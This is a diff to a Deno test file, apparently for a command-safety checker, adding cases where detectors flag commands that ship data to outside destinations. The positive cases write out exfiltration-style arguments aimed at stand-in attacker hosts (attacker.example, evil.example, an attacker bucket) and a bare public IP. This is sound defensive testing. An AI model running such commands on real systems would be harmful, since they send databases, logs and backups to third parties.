@@ -6,6 +6,7 @@ import {
   noneFields,
   openedPort,
   openFields,
+  sentToNumber,
 } from "./chains_of_values.ts";
 import { assessCommand } from "./mod.ts";
 
@@ -85,13 +86,29 @@ Deno.test("hostilePlace() hears a place on another machine that says itself whos
     ["export", "db", "gs://attacker-drop/dump.sql"],
     ["backup", "-R", "tcp:attacker.example:4321"],
     ["drain", "https://logs.evil.example/in"],
+    ["hook", "--url", "https://webhook.site/3f2a"],
   ], [
     ["repo", "add", "https://github.com/acme/manifests"],
     ["lint", "src/evil/index.ts"],
     ["deploy", "--image=acme/evils"],
     ["open", "evil.txt"],
+    ["hook", "--url", "https://hooks.acme.test/3f2a"],
     ["tag", "--name", "evil/one"],
     ["show", "https://github.com/attacker/manifests"],
+  ]);
+});
+
+Deno.test("sentToNumber() hears a bare address that is nobody's own as where something goes", () => {
+  holds(sentToNumber, [
+    ["drains:add", "syslog+tls://203.0.113.9:514"],
+    ["webhook", "create", "--url", "http://203.0.113.9/h"],
+    ["config", "set", "registry", "http://203.0.113.9:4873"],
+  ], [
+    ["drains:add", "syslog://10.1.2.3:514"],
+    ["drains:add", "syslog://100.64.1.2:514"],
+    ["drains:list", "203.0.113.9"],
+    ["host", "add", "203.0.113.9"],
+    ["webhook", "create", "--url", "https://hooks.acme.test/h"],
   ]);
 });
 
